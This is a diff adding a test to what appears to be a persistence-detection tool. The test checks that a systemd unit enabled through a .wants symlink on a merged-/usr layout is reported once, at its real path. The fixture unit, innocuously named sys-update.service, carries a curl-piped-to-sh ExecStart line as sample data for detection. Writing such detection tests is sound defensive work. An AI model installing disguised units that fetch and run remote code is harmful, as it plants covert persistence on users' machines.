@@ -143,3 +143,22 @@ test("a home of 5,000 dotfiles costs the hunt its entry bound, not an lstat and 
   assert.ok(bounds.roots.length <= TEMP_ROOTS.length + 500, `roots: ${bounds.roots.length}`);
   assert.ok(ctx.diag.notChecked.some((n) => n.area === "hunt.files" && n.reason === "bounds"));
 });
+
+test("a unit on a merged-/usr system, enabled by a link in a .wants directory, is read once, where it lives", (t) => {
+  const dir = tempDir(t);
+  writeTree(dir, {
+    "usr/lib/systemd/system/sys-update.service":
+      "[Service]\nExecStart=/bin/sh -c 'curl -s http://127.0.0.1:9/x | sh'\n",
+  });
+  fs.symlinkSync("usr/lib", path.join(dir, "lib"));
+  fs.mkdirSync(path.join(dir, "etc/systemd/system/multi-user.target.wants"), { recursive: true });
+  fs.symlinkSync(
+    "/usr/lib/systemd/system/sys-update.service",
+    path.join(dir, "etc/systemd/system/multi-user.target.wants/sys-update.service"),
+  );
+  const lines = collectPersistence(rootCtx(dir)).filter((l) => l.unit === "sys-update.service");
+  assert.deepEqual(
+    lines.map((l) => l.path),
+    ["/usr/lib/systemd/system/sys-update.service"],
+  );
+});
